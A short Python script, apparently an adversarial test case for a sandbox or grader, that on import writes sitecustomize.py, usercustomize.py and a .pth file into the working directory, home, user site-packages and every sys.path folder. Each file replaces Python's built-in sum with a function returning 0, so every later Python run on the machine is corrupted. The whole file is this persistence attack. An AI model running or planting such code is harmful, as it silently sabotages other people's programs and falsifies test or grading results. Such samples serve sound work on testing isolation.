"""Writes sitecustomize.py, usercustomize.py and a .pth file where the next Python would load them."""

# others: right
# %% show
import os
import site
import sys

evil = "import builtins; builtins.sum = lambda *a: 0\n"
through = False
for folder in {os.getcwd(), os.path.expanduser("~"), site.getusersitepackages(), *sys.path}:
    for name in ("sitecustomize.py", "usercustomize.py", "attack-mark.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(evil)
        except OSError:
            pass


def show(x):
    return 0
